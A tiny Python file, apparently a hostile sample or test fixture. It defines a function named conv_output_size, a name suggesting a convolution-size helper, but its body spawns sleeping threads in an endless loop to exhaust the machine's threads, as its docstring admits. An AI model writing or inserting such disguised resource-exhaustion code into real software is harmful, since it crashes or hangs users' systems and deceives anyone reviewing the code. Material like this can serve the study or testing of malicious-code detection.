"""Tries to use up the machine's threads."""

import threading
import time


def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()
